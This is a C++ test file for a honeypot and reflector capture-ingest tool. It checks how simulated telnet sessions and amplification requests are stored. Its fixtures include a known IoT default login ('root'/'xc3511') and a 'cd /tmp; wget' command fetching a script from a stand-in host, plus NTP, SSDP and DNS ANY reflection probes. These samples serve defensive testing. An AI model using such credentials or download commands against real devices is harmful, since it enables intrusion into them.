// Honeypots and reflectors through ingest, from packets made by hand: what becomes of them in `sessions`, `payloads` and `requests`,
// however their captures are cut, split and repeated.
#include <algorithm>
#include <random>

#include "store/compact.hpp"
#include "support/lake_fixture.hpp"

namespace nightjar {
namespace {

using namespace test;

constexpr std::int64_t kSecond = 1'000'000'000;
constexpr const char* kClient = "203.0.113.9";
constexpr const char* kPot = "198.18.9.9";

/// Adds the packets of a conversation on 23/tcp, one a second: handshake, a prompt, what the client says, the end if it has one.
void add_conversation(PcapFile& file, std::int64_t begin_ns, std::uint16_t client_port, const std::vector<std::string>& says,
                      bool ends = true) {
  std::uint32_t client_seq = 1000, pot_seq = 5000;
  std::int64_t time_ns = begin_ns;
  const auto send = [&](bool client, std::uint8_t flags, std::string_view payload) {
    PacketBuilder packet;
    packet.at(time_ns).tcp().flags(flags).seq(client ? client_seq : pot_seq).payload(payload);
    if (client)
      packet.from(kClient).to(kPot).src_port(client_port).port(23);
    else
      packet.from(kPot).to(kClient).src_port(23).port(client_port);
    ByteVector frame = packet.ethernet();
    const std::uint32_t ack = client ? pot_seq : client_seq;
    constexpr std::size_t kAck = 14 + 20 + 8;
    for (std::size_t i = 0; i < 4 && (flags & tcp_flag::kAck) != 0; ++i) frame[kAck + i] = static_cast<std::uint8_t>(ack >> (24 - 8 * i));
    file.add_frame(frame, time_ns);
    time_ns += kSecond;
    std::uint32_t& seq = client ? client_seq : pot_seq;
    seq += static_cast<std::uint32_t>(payload.size()) + ((flags & (tcp_flag::kSyn | tcp_flag::kFin)) != 0 ? 1 : 0);
  };
  send(true, tcp_flag::kSyn, "");
  send(false, tcp_flag::kSyn | tcp_flag::kAck, "");
  send(true, tcp_flag::kAck, "");
  send(false, tcp_flag::kAck | tcp_flag::kPsh, "\xff\xfd\x1flogin: ");
  for (const std::string& words : says) send(true, tcp_flag::kAck | tcp_flag::kPsh, words);
  if (!ends) return;
  send(true, tcp_flag::kAck | tcp_flag::kFin, "");
  send(false, tcp_flag::kAck | tcp_flag::kFin, "");
}

class PotsTest : public LakeTest {
 protected:
  Ingest::Report pot(const std::vector<std::string>& paths, Ingest::Config config = {}) {
    return ingest(paths, {.sensor = "pot", .kind = SensorKind::honeypot}, config);
  }
  Ingest::Report reflector(const std::vector<std::string>& paths, Ingest::Config config = {}) {
    return ingest(paths, {.sensor = "mirror", .kind = SensorKind::reflector}, config);
  }
  /// Everything that the lake says of conversations, without batch numbers.
  std::vector<std::string> sessions() const { return ask("SELECT * EXCLUDE (batch) FROM sessions ORDER BY ALL"); }
  /// The capture is ingested as it was after each of its packets, and whole.
  void expect_the_same_however_it_grew(const PcapFile& capture, const std::vector<std::string>& whole) {
    for (std::size_t first = 1; first < capture.packets(); ++first) {
      use_lake("grew from " + std::to_string(first));
      const std::string growing = file("growing.pcap", capture.slice(0, first));
      pot({growing});
      file("growing.pcap", capture.content());
      pot({growing});
      EXPECT_EQ(sessions(), whole) << first;
    }
  }
  std::vector<std::string> payloads() const { return ask("SELECT * EXCLUDE (batch) FROM payloads ORDER BY ALL"); }
  std::vector<std::string> requests() const {
    return ask(
        "SELECT minute, sensor, ip(src, src_low), port, service, sum(packets), sum(bytes_in), sum(bytes_out), sum(replies), "
        "sum(request_bytes), "
        "sum(reply_bytes), bit_or(kinds), CASE WHEN min(query) = max(query) THEN min(query) ELSE '' END, min(first_ms), max(last_ms) "
        "FROM requests GROUP BY ALL ORDER BY ALL");
  }
};

TEST_F(PotsTest, AConversationBecomesASessionAndItsBytesAPayload) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n", "cd /tmp; wget http://192.0.2.7/x.sh\r\n"});
  pot({file("a.pcap", capture.content())});
  EXPECT_EQ(ask("SELECT \"first\", last, sensor, ip(src, src_low), src_port, ip(dst, dst_low), port, packets, handshake, segments, bytes, "
                "server_bytes, cut, urls FROM sessions"),
            std::vector<std::string>{"2017-11-23T00:00:00Z 2017-11-23T00:00:08Z pot 203.0.113.9 40000 198.18.9.9 23 9 1 3 51 10 0 "
                                     "http://192.0.2.7/x.sh"});
  EXPECT_EQ(
      ask("SELECT bytes = CAST('root\r\nxc3511\r\ncd /tmp; wget http://192.0.2.7/x.sh\r\n' AS BLOB), size, protocol, port, sensor, urls "
          "FROM payloads"),
      std::vector<std::string>{"true 51 6 23 pot http://192.0.2.7/x.sh"});
  EXPECT_EQ(ask_one("SELECT payload = sha256('root\r\nxc3511\r\ncd /tmp; wget http://192.0.2.7/x.sh\r\n') FROM sessions"), "true")
      << "DuckDB's own SHA-256 says the same";
}

TEST_F(PotsTest, ThePotsOwnAnswersAreNobodysTraffic) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n"});
  const auto report = pot({file("a.pcap", capture.content())});
  EXPECT_EQ(report.packets, 4u);
  EXPECT_EQ(report.outbound, 3u);
  EXPECT_EQ(ask("SELECT DISTINCT ip(src, src_low) FROM flows"), std::vector<std::string>{kClient});
}

TEST_F(PotsTest, AConversationMayGoOnInAnotherCapture) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n"});
  pot({file("whole.pcap", capture.content())});
  const auto whole = sessions();
  EXPECT_EQ(whole.size(), 1u);
  use_lake("two");
  pot({file("a.pcap", capture.slice(0, 5)), file("b.pcap", capture.slice(5, capture.packets()))});
  EXPECT_EQ(sessions(), whole);
}

TEST_F(PotsTest, ABatchThatEndsWithinAConversationHoldsWhatWasSaidSoFar) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n", "sh\r\n"});
  add_conversation(capture, kNov23 + 20 * kSecond, 40'001, {"admin\r\n"});
  const std::string path = file("a.pcap", capture.content());
  pot({path});
  const auto whole = sessions();
  EXPECT_EQ(whole.size(), 2u);
  for (const std::uint64_t packets : {1, 2, 3, 5, 7}) {
    use_lake("batches of " + std::to_string(packets));
    const auto report = pot({path}, {.batch_packets = packets});
    EXPECT_GT(report.batches, 1u);
    EXPECT_EQ(sessions(), whole) << packets;
    EXPECT_EQ(ask_one("SELECT count(*) FROM sessions JOIN payloads ON payload = sha256"), "2");
  }
}

TEST_F(PotsTest, ACaptureThatGrewEndsInTheSameSessions) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n", "sh\r\n"});
  const std::string path = file("whole.pcap", capture.content());
  pot({path});
  const auto whole = sessions();
  expect_the_same_however_it_grew(capture, whole);
}

/// A conversation that breaks off within a line and falls silent, and another six minutes later.
PcapFile capture_of_silence() {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n", "wget http://192.0.2.7/x.sh"}, false);
  add_conversation(capture, kNov23 + 360 * kSecond, 40'001, {"admin\r\n"});
  return capture;
}

TEST_F(PotsTest, TheLastWordsOfWhoFallsSilentAreReadWhereverABatchEnds) {
  const PcapFile capture = capture_of_silence();
  const std::string path = file("a.pcap", capture.content());
  pot({path});
  const auto whole = sessions();
  ASSERT_EQ(ask("SELECT packets, urls FROM sessions ORDER BY src_port"), (std::vector<std::string>{"7 http://192.0.2.7/x.sh", "7 "}));
  for (const std::uint64_t packets : {1, 5, 7, 8}) {
    use_lake("batches of " + std::to_string(packets));
    pot({path}, {.batch_packets = packets});
    EXPECT_EQ(sessions(), whole) << packets;
    Lake lake(lake_folder());
    ASSERT_TRUE(compact(lake, {}));
    EXPECT_EQ(sessions(), whole) << packets << ", compacted";
  }
  expect_the_same_however_it_grew(capture, whole);
}

TEST_F(PotsTest, CompactionKeepsWhatReadersSee) {
  PcapFile capture;
  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n"});
  add_conversation(capture, kNov23 + 30 * kSecond, 40'001, {"root\r\n", "xc3511\r\n"});
  pot({file("a.pcap", capture.content())}, {.batch_packets = 3});
  const auto said = sessions(), sent = payloads();
  Lake lake(lake_folder());
  const auto compacted = compact(lake, {});
  ASSERT_TRUE(compacted) << compacted.error().sentence;
  EXPECT_GT(compacted->rows_before, compacted->rows_after);
  EXPECT_EQ(sessions(), said);
  EXPECT_EQ(payloads(), sent);
}

/// A capture of requests of several victims to a pot, and its answers to some.
PcapFile requests_capture(std::size_t packets, std::uint32_t seed) {
  std::mt19937 random(seed);
  PcapFile capture;
  std::int64_t time_ns = kNov23;
  for (std::size_t i = 0; i < packets; ++i) {
    time_ns += static_cast<std::int64_t>(random() % 5'000'000'000);
    const std::string victim = "203.0.113." + std::to_string(random() % 4);
    const bool ntp = random() % 2 == 0;
    PacketBuilder request;
    request.at(time_ns).udp().from(victim).to(kPot).src_port(4444).port(ntp ? 123 : 1900);
    if (ntp)
      request.payload(hex("1700032a00000000"));
    else
      request.payload("M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n");
    capture.add(request);
    if (random() % 10 != 0) continue;
    PacketBuilder reply;
    reply.at(time_ns + 1000).udp().from(kPot).to(victim).src_port(ntp ? 123 : 1900).port(4444).payload("an answer");
    capture.add(reply);
  }
  return capture;
}

TEST_F(PotsTest, RequestsAreCountedByMinuteVictimAndService) {
  PcapFile capture;
  for (const int ms : {1500, 1700, 61'000}) {
    capture.add(
        packet().at(kNov23 + ms * 1'000'000LL).udp().from(kClient).to(kPot).src_port(80).port(123).payload(hex("1700032a00000000")));
  }
  capture.add(packet().at(kNov23 + 1'600'000'000).udp().from(kPot).to(kClient).src_port(123).port(80).payload(hex("970003 2a00")));
  const auto report = reflector({file("a.pcap", capture.content())});
  EXPECT_EQ(report.outbound, 1u);
  EXPECT_EQ(
      ask("SELECT minute, sensor, ip(src, src_low), port, service, packets, bytes_in, replies, bytes_out, request_bytes, first_ms, last_ms "
          "FROM requests ORDER BY minute"),
      (std::vector<std::string>{"2017-11-23T00:00:00Z mirror 203.0.113.9 123 ntp 2 72 1 33 16 1500 1700",
                                "2017-11-23T00:01:00Z mirror 203.0.113.9 123 ntp 1 36 0 0 8 1000 1000"}));
}

TEST_F(PotsTest, ARowOfRepliesAloneTakesNoQueryAway) {
  PcapFile question, answer;
  question.add(
      packet().at(kNov23).udp().from(kClient).to(kPot).src_port(80).port(1900).payload("M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n"));
  answer.add(packet().at(kNov23 + kSecond).udp().from(kPot).to(kClient).src_port(1900).port(80).payload("HTTP/1.1 200 OK\r\n\r\n"));
  const std::string config = file("nightjar.toml",
                                  "[[sensor]]\nname = \"mirror\"\nkind = \"reflector\"\nprefixes = [\"198.18.9.9/32\"]\n"
                                  "captures = [\"*.pcap\"]\n");
  SensorChoice choice;
  choice.config = config;
  ingest({file("question.pcap", question.content())}, choice);
  ingest({file("answer.pcap", answer.content())}, choice);
  EXPECT_EQ(ask("SELECT packets, replies, query FROM requests ORDER BY packets"), (std::vector<std::string>{"0 1 ", "1 0 ssdp:all"}));
  Lake lake(lake_folder());
  ASSERT_TRUE(compact(lake, {}));
  EXPECT_EQ(ask("SELECT packets, replies, query FROM requests"), std::vector<std::string>{"1 1 ssdp:all"});
}

TEST_F(PotsTest, RequestsAreTheSameInAnyPiecesAndOrder) {
  const PcapFile capture = requests_capture(400, 3);
  const std::string path = file("whole.pcap", capture.content());
  // With its prefix written down: whoever learns addresses from the order of packets needs the order.
  const std::string config = file("nightjar.toml",
                                  "[[sensor]]\nname = \"mirror\"\nkind = \"reflector\"\nprefixes = [\"198.18.9.9/32\"]\n"
                                  "captures = [\"*.pcap\"]\n");
  SensorChoice choice;
  choice.config = config;
  ingest({path}, choice);
  const auto whole = requests();
  EXPECT_GT(whole.size(), 30u);
  for (const int jobs : {1, 3}) {
    use_lake("pieces " + std::to_string(jobs));
    for (const std::size_t piece : {2, 0, 3, 1}) {
      ingest({file("piece" + std::to_string(piece) + ".pcap",
                   capture.slice(capture.packets() * piece / 4, capture.packets() * (piece + 1) / 4))},
             choice, {.jobs = jobs, .batch_packets = 37});
    }
    EXPECT_EQ(requests(), whole) << jobs;
    Lake lake(lake_folder());
    ASSERT_TRUE(compact(lake, {}));
    EXPECT_EQ(requests(), whole) << "compacted";
  }
}

TEST_F(PotsTest, AFloodOfSourcesWithOneRequestEachIsCounted) {
  PcapFile capture;
  constexpr std::size_t kSources = 50'000;
  for (std::size_t i = 0; i < kSources; ++i) {
    capture.add(packet()
                    .at(kNov23 + static_cast<std::int64_t>(i) * 10'000'000)
                    .udp()
                    .from("11." + std::to_string(i >> 16) + "." + std::to_string(i >> 8 & 255) + "." + std::to_string(i & 255))
                    .to(kPot)
                    .src_port(80)
                    .port(53)
                    .payload(hex("123401000001000000000000076578616d706c6503636f6d0000ff0001")));
  }
  // So little memory that rows are written before the capture ends.
  reflector({file("a.pcap", capture.content())}, {.memory_bytes = 10'000'000, .step_packets = 1000});
  EXPECT_EQ(ask_one("SELECT count(DISTINCT src), sum(packets), min(service), max(query) FROM requests"), "50000 50000 dns example.com ANY");
}

TEST_F(PotsTest, DatagramsToDarkAddressesAreKeptOncePerPayloadAndHour) {
  PcapFile capture;
  for (int i = 0; i < 5; ++i) {
    capture.add(
        packet().at(kNov23 + i * kSecond).udp().from("203.0.113." + std::to_string(i)).to("198.18.0.1").port(53413).payload("AAAA"));
  }
  capture.add(packet().at(kNov23 + 9 * kSecond).udp().from(kClient).to("198.18.0.2").port(1900).payload("BBBB"));
  capture.add(packet().at(kNov23 + 3700 * kSecond).udp().from(kClient).to("198.18.0.2").port(1900).payload("AAAA"));
  ingest({file("a.pcap", capture.content())}, {.sensor = "dark"});
  EXPECT_EQ(ask("SELECT bytes, size, \"first\", last, protocol, port, ip(src, src_low) FROM payloads ORDER BY bytes"),
            (std::vector<std::string>{"AAAA 4 2017-11-23T00:00:00Z 2017-11-23T01:01:40Z 17 53413 203.0.113.0",
                                      "BBBB 4 2017-11-23T00:00:09Z 2017-11-23T00:00:09Z 17 1900 203.0.113.9"}));
  EXPECT_EQ(ask_one("SELECT count(*) FROM sessions"), "0");
}

}  // namespace
}  // namespace nightjar
